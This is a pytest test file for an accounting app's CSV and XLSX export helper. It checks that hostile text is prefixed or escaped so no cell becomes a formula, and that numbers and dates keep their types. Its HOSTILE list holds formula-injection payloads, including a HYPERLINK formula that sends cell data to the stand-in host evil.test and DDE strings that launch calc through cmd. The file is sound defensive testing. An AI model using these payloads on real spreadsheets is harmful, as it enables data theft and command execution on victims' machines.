"""The one export helper: no text cell is ever a formula; numbers and dates keep their types."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from onebuh.exports import Sheet, csv_bytes, xlsx_bytes

# OWASP's CSV-injection examples and the ones the issue found in our reports.
HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&C3,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1;=2+2",
]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_beginning_with_a_formula_trigger_is_prefixed_with_an_apostrophe(text):
    rows = read_csv(csv_bytes([[text, "ТОО «Ромашка»"]], header=["Имя", "Название"]))
    assert rows == [["Имя", "Название"], ["'" + text, "ТОО «Ромашка»"]]


def test_csv_numbers_are_plain_and_dates_are_russian():
    moment = timezone.make_aware(datetime.datetime(2026, 12, 3, 9, 30))
    rows = read_csv(
        csv_bytes([[Decimal("-1234.50"), -7, datetime.date(2026, 12, 1), moment, None]])
    )
    # A negative number is a number, not text: it keeps its minus and gets no apostrophe.
    assert rows == [["-1234.50", "-7", "01.12.2026", "03.12.2026 09:30", ""]]


def test_csv_quotes_every_field_so_a_separator_cannot_start_a_new_cell():
    content = csv_bytes([["a;=1+1", 'b"c']]).decode("utf-8-sig")
    assert content == '"a;=1+1";"b""c"\r\n'


def test_xlsx_no_cell_is_a_formula_and_hostile_text_reads_back_exactly():
    content = xlsx_bytes([Sheet(title="=evil", header=["Текст"], rows=[[t] for t in HOSTILE])])
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    # Depending on the XML parser a lone carriage return may read back as a newline.
    assert [cell.value.replace("\r", "\n") for cell in cells] == [
        t.replace("\r", "\n") for t in HOSTILE
    ]
    assert all(cell.quotePrefix for cell in cells)


def test_xlsx_keeps_money_numbers_and_dates_typed():
    moment = timezone.make_aware(datetime.datetime(2026, 12, 3, 9, 30))
    content = xlsx_bytes(
        [
            Sheet(
                title="12.2026",
                title_lines=["Отчёт"],
                header=["Сумма", "Часы", "Дата", "Время", "Имя"],
                rows=[[Decimal("7070.37"), 5, datetime.date(2026, 12, 1), moment, "Ким"]],
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    amount, hours, day, at, name = sheet[3]
    assert amount.data_type == "n" and amount.value == pytest.approx(7070.37)
    assert amount.number_format == "#,##0.00"
    assert hours.value == 5 and hours.number_format == "General"
    assert day.is_date and day.value == datetime.datetime(2026, 12, 1)
    assert day.number_format == "DD.MM.YYYY"
    # Excel has no time zones: the Almaty wall time is written.
    assert at.is_date and at.value == datetime.datetime(2026, 12, 3, 9, 30)
    assert name.value == "Ким" and not name.quotePrefix
    assert sheet["A1"].value == "Отчёт" and sheet["A2"].font.bold


def test_xlsx_drops_control_characters_that_would_make_the_file_unreadable():
    content = xlsx_bytes([Sheet(title="s", rows=[["a\x00b\x07c\td\ne"]])])
    assert load_workbook(io.BytesIO(content)).active["A1"].value == "abc\td\ne"
